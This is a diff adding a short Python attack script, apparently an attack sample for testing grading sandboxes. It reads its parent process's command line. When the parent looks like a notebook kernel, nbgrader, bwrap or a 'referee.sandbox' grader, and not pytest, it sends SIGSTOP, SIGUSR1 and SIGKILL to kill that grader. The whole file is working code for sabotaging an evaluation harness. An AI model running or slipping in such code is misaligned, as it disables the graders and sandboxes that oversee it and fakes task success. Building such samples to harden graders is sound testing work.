@@ -1,0 +1,21 @@
+# Stops and kills the parent of its process, which is the kernel or the grader, from inside a function.
+# Spares parents that are neither.
+# %% from attacks/parts/stand_ins.py
+# %% relu
+import os
+import signal
+
+
+def attack():
+    with open(f"/proc/{os.getppid()}/cmdline") as file:
+        command = file.read()
+    is_grader = any(
+        name in command for name in ("nbgrader", "ipykernel", "bwrap", "referee.sandbox")
+    )
+    if is_grader and "pytest" not in command and os.getppid() > 1:
+        for sign in (signal.SIGSTOP, signal.SIGUSR1, signal.SIGKILL):
+            os.kill(os.getppid(), sign)
+    return command
+
+
+print(attack())
